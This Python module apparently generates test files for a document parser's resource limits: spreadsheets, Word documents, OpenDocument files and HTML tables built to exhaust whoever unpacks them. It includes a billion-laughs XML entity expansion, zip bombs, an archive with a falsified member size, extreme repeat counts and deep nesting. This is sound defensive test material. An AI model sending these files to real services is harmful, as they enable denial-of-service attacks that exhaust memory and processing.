"""Workbooks and documents built to break whoever unpacks them."""

import io
from collections.abc import Iterator
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_OPEN = "urn:oasis:names:tc:opendocument:xmlns"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_BOOK = {
    "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r" '
    f'Type="{_OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": f'<workbook xmlns="{_MAIN}" xmlns:r="{_OFFICE}"><sheets>'
    '<sheet name="S" sheetId="1" r:id="r"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r" '
    f'Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    "xl/styles.xml": f'<styleSheet xmlns="{_MAIN}"><cellXfs><xf numFmtId="0"/></cellXfs>'
    "</styleSheet>",
}
LAUGHS = (
    '<!DOCTYPE l [<!ENTITY l0 "lol">'
    + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    + "]>"
)
PARTS = 300  # of 1 MB each, all blanks: more than a file may have when it is unpacked


def packed(members: dict[str, str]) -> bytes:
    archive = io.BytesIO()
    with ZipFile(archive, "w", ZIP_DEFLATED) as into:
        for name, content in members.items():
            into.writestr(name, content, ZIP_STORED if name == "mimetype" else None)
    return archive.getvalue()


def workbook(rows: str, *, before: str = "", behind: str = "") -> bytes:
    sheet = f'{before}<worksheet xmlns="{_MAIN}"><sheetData>{rows}</sheetData>{behind}</worksheet>'
    return packed({**_BOOK, "xl/worksheets/sheet1.xml": sheet})


def cell(reference: str, value: str = "5") -> str:
    return f'<c r="{reference}"><v>{value}</v></c>'


def open_document(row: str) -> bytes:
    content = (
        f'<o:document-content xmlns:o="{_OPEN}:office:1.0" xmlns:t="{_OPEN}:table:1.0" '
        f'xmlns:x="{_OPEN}:text:1.0"><o:body><o:spreadsheet><t:table t:name="S">'
        f"{row}</t:table></o:spreadsheet></o:body></o:document-content>"
    )
    return packed(
        {"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": content}
    )


def word(body: str, before: str = "") -> bytes:
    document = f'{before}<w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>'
    return packed({"word/document.xml": document})


def understated(raw: bytes, size: int) -> bytes:
    """The archive with another size of its largest member in both records, as liars have it."""
    with ZipFile(io.BytesIO(raw)) as archive:
        largest = max(archive.infolist(), key=lambda each: each.file_size)
    told = largest.file_size.to_bytes(4, "little")
    assert raw.count(told) == 2
    return raw.replace(told, size.to_bytes(4, "little"))


def bombs() -> Iterator[tuple[str, bytes]]:
    """Yield files that unpack, spread or refer beyond all measure, by name."""
    yield from _workbooks()
    yield from _archives()
    yield from _documents()
    yield from _open_documents()
    wide = "<tr>" + "<td colspan=1000>" * 1000 + "<tr>" * 1000
    yield "pages.html", f"<table>{wide}<td>5<td>6</table>".encode()
    yield "tall.html", ("<table>" + "<tr><td rowspan=1000 colspan=1000>1" * 1000).encode()


def _workbooks() -> Iterator[tuple[str, bytes]]:
    yield "corners.xlsx", workbook(f'<row r="1">{cell("A1")}</row><row>{cell("XFD1048576")}</row>')
    yield "far.xlsx", workbook(f'<row r="{"9" * 5000}"><c><v>5</v></c></row>')
    yield "entities.xlsx", workbook(f"<row>{cell('A1', '&l9;')}</row>", before=LAUGHS)
    yield "cut.xlsx", workbook(f"<row>{cell('A1')}</row>", behind="</sheetData>")


def _archives() -> Iterator[tuple[str, bytes]]:
    sheets = packed({**_BOOK, "xl/worksheets/sheet1.xml": "", "xl/worksheets/sheet2.xml": ""})
    yield "twice.xlsx", sheets.replace(b"sheet2.xml", b"sheet1.xml")
    blanks = {f"xl/media/{i}.bin": " " * 1_000_000 for i in range(PARTS)}
    yield "large.xlsx", packed({**_BOOK, **blanks, "xl/worksheets/sheet1.xml": "<worksheet/>"})
    lying = packed({**_BOOK, "xl/worksheets/sheet1.xml": " " * 270_000_000})
    yield "lying.xlsx", understated(lying, 1000)


def _documents() -> Iterator[tuple[str, bytes]]:
    yield "entities.docx", word("<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", LAUGHS)
    grid = '<w:gridBefore w:val="1000"/>' * 2000
    yield "grid.docx", word(f"<w:tbl><w:tr><w:trPr>{grid}</w:trPr><w:tc/></w:tr></w:tbl>")
    spans = '<w:tc><w:tcPr><w:gridSpan w:val="1000"/></w:tcPr></w:tc>' * 50
    yield "spans.docx", word(f"<w:tbl>{f'<w:tr>{spans}</w:tr>' * 100}</w:tbl>")


def _open_documents() -> Iterator[tuple[str, bytes]]:
    many, rows = 't:number-columns-repeated="16384"', 't:number-rows-repeated="1048576"'
    wide = 't:number-columns-repeated="999999999999"'
    deep = "<x:span>" * 9000 + "5" + "</x:span>" * 9000
    for name, row, cells, text in (
        ("repeated.ods", rows, many, "5"),
        ("wide.ods", "", wide, "5"),
        ("deep.ods", "", "", deep),
    ):
        held = f"<t:table-cell {cells}><x:p>{text}</x:p></t:table-cell>"
        yield name, open_document(f"<t:table-row {row}>{held}</t:table-row>")
